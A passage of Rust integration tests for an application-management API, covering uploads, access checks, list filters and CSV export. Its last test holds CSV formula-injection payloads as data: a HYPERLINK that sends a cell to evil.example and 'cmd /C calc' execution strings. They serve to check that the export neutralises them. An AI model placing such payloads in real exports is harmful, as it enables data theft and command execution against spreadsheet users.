    let res = upload(&app, t, id, "again.pdf", scan_pdf("same")).await;
    assert_eq!(res.status(), 200);
    let again: Value = res.json().await.unwrap();
    assert_eq!(again["id"], d["id"]);
    // Another application with the same bytes: a document of its own, the file stored once.
    let other_lib = app.create_org("Knjižnica Tri", "member_library").await;
    let other = app.user("library", Some(&other_lib)).await;
    let b: Value = create(
        &app,
        &f,
        &other.token,
        &body(&f.mobility_ids[0], "o@k.example"),
    )
    .await
    .json()
    .await
    .unwrap();
    let d2: Value = upload(
        &app,
        &other.token,
        b["id"].as_str().unwrap(),
        "x.pdf",
        scan_pdf("same"),
    )
    .await
    .json()
    .await
    .unwrap();
    assert_ne!(d2["id"], d["id"]);
    assert_eq!(d2["sha256"], d["sha256"]);
    let blob = app
        .data_path("blobs")
        .join(&d["sha256"].as_str().unwrap()[..2])
        .join(d["sha256"].as_str().unwrap());
    assert_eq!(std::fs::read(&blob).unwrap(), scan_pdf("same"));
    let files = std::fs::read_dir(blob.parent().unwrap()).unwrap().count();
    assert_eq!(files, 1);

    let doc_path = format!("/api/v1/documents/{}", d["id"].as_str().unwrap());
    let res = app.get(&doc_path, Some(t)).await;
    assert_eq!(res.status(), 200);
    assert_eq!(
        res.headers().get("content-type").unwrap(),
        "application/pdf"
    );
    let cd = res
        .headers()
        .get("content-disposition")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert!(cd.starts_with("attachment"), "{cd}");
    assert!(
        cd.contains("filename*=UTF-8''Prijava%20_%C4%8Cebelica_.pdf"),
        "{cd}"
    );
    assert_eq!(res.bytes().await.unwrap().to_vec(), scan_pdf("same"));
    assert_problem(
        app.get(&doc_path, Some(&other.token)).await,
        404,
        "document.not_found",
    )
    .await;
    assert_problem(app.get(&doc_path, None).await, 401, "auth.missing_token").await;
    let list: Value = app
        .get(&format!("/api/v1/applications/{id}/documents"), Some(t))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    assert_problem(
        upload(&app, &other.token, id, "x.pdf", scan_pdf("intruder")).await,
        404,
        "application.not_found",
    )
    .await;
}

#[tokio::test]
async fn drafts_can_be_deleted_and_lists_filter() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let mut b = body(&f.mobility_ids[1], "drugi@k.example");
    b["fewer_opportunities"] = json!(false);
    let second: Value = create(&app, &f, &f.library.token, &b)
        .await
        .json()
        .await
        .unwrap();
    sign_both(&app, &f.library.token, second["id"].as_str().unwrap()).await;
    assert_eq!(
        submit(&app, &f.library.token, second["id"].as_str().unwrap())
            .await
            .status(),
        200
    );

    let c = &f.coordinator.token;
    let q = |query: &str| format!("/api/v1/applications?call_id={}&{query}", f.call_id);
    let total = |v: Value| v["total"].as_u64().unwrap();
    assert_eq!(
        total(
            app.get(&q("status=draft"), Some(c))
                .await
                .json()
                .await
                .unwrap()
        ),
        1
    );
    assert_eq!(
        total(
            app.get(&q("status=submitted"), Some(c))
                .await
                .json()
                .await
                .unwrap()
        ),
        1
    );
    assert_eq!(
        total(
            app.get(&q(&format!("mobility_id={}", f.mobility_ids[1])), Some(c))
                .await
                .json()
                .await
                .unwrap()
        ),
        1
    );
    assert_eq!(
        total(
            app.get(&q("fewer_opportunities=true"), Some(c))
                .await
                .json()
                .await
                .unwrap()
        ),
        1
    );
    assert_eq!(
        total(
            app.get(&q("received_via=email"), Some(c))
                .await
                .json()
                .await
                .unwrap()
        ),
        0
    );
    assert_eq!(
        total(
            app.get(&q(&format!("library_id={}", f.library_id)), Some(c))
                .await
                .json()
                .await
                .unwrap()
        ),
        2
    );
    assert_problem(
        app.get("/api/v1/applications?status=nonsense", Some(c))
            .await,
        400,
        "request.invalid_query",
    )
    .await;

    let path = format!("/api/v1/applications/{}", a["id"].as_str().unwrap());
    assert_eq!(
        app.delete(&path, Some(&f.library.token)).await.status(),
        204
    );
    assert_problem(app.get(&path, Some(c)).await, 404, "application.not_found").await;
}

#[tokio::test]
async fn coordinators_export_a_calls_applications_as_csv() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    draft(&app, &f).await;
    let path = format!("/api/v1/calls/{}/applications.csv", f.call_id);
    let res = app.get(&path, Some(&f.coordinator.token)).await;
    assert_eq!(res.status(), 200);
    assert!(
        res.headers()
            .get("content-type")
            .unwrap()
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let bytes = res.bytes().await.unwrap().to_vec();
    assert!(
        bytes.starts_with(&[0xEF, 0xBB, 0xBF]),
        "UTF-8 byte-order mark"
    );
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert!(lines[0].starts_with("id;mobility;library;applicant_full_name"));
    assert!(!lines[0].contains("fewer_opportunities_note"));
    assert!(
        lines[1].contains("Maja Kovač")
            && lines[1].contains(";JS1;")
            && lines[1].contains("Knjižnica ")
    );
    assert!(!text.contains("Živi na oddaljenem območju"));

    let text = app
        .get(
            &format!("{path}?delimiter=comma&include_fewer_opportunities_note=true"),
            Some(&f.coordinator.token),
        )
        .await
        .text()
        .await
        .unwrap();
    assert!(
        text.trim_start_matches('\u{feff}')
            .starts_with("id,mobility,library")
    );
    assert!(text.contains("Živi na oddaljenem območju."));

    assert_problem(
        app.get(&path, Some(&f.library.token)).await,
        403,
        "auth.forbidden",
    )
    .await;
    assert_problem(
        app.get(&format!("{path}?delimiter=tab"), Some(&f.coordinator.token))
            .await,
        400,
        "request.invalid_query",
    )
    .await;
}

#[tokio::test]
async fn the_schema_itself_refuses_a_second_active_application() {
    use sea_orm::{ActiveModelTrait, EntityTrait, IntoActiveModel};
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let db = app.db().await;
    let id: uuid::Uuid = a["id"].as_str().unwrap().parse().unwrap();
    let existing = entity::application::Entity::find_by_id(id)
        .one(&db)
        .await
        .unwrap()
        .unwrap();
    let mut copy = existing.clone();
    copy.id = uuid::Uuid::now_v7();
    let err = copy
        .clone()
        .into_active_model()
        .reset_all()
        .insert(&db)
        .await
        .unwrap_err();
    assert!(
        matches!(
            err.sql_err(),
            Some(sea_orm::SqlErr::UniqueConstraintViolation(_))
        ),
        "{err}"
    );
    // A withdrawn one does not count.
    copy.status = entity::enums::ApplicationStatus::Withdrawn;
    copy.into_active_model()
        .reset_all()
        .insert(&db)
        .await
        .unwrap();
}

/// Text that a spreadsheet would run as a formula is neutralised in the CSV export: a leading
/// `'` before `=`, `+`, `-` and `@`, read back with a real CSV reader.
#[tokio::test]
async fn csv_exports_neutralise_formulas() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for (i, name) in hostile.iter().enumerate() {
        let org = app
            .create_org(
                &format!("Knjižnica CSV {i} {}", uuid::Uuid::now_v7().simple()),
                "member_library",
            )
            .await;
        let lib = app.user("library", Some(&org)).await;
        let mut b = body(&f.mobility_ids[0], &format!("csv{i}@knjiznica.example"));
        b["applicant"]["full_name"] = json!(name);
        assert_eq!(
            create(&app, &f, &lib.token, &b).await.status(),
            201,
            "{name}"
        );
    }
    let text = app
        .get(
            &format!(
                "/api/v1/calls/{}/applications.csv?delimiter=comma",
                f.call_id
            ),
            Some(&f.coordinator.token),
        )
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[3].to_string())
        .collect();
    for name in hostile {
        assert!(
            names.contains(&format!("'{name}")),
            "{name} not neutralised: {names:?}"
        );
    }
    assert!(
        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
        "{names:?}"
    );
}
